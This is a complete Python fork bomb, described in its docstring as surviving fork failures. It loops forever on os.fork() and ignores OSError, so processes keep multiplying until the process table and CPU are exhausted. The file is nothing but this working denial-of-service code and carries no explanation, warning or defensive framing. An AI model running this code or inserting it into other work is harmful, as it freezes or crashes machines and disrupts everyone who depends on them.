"""Fork bomb that survives fork failures and keeps every child spinning."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
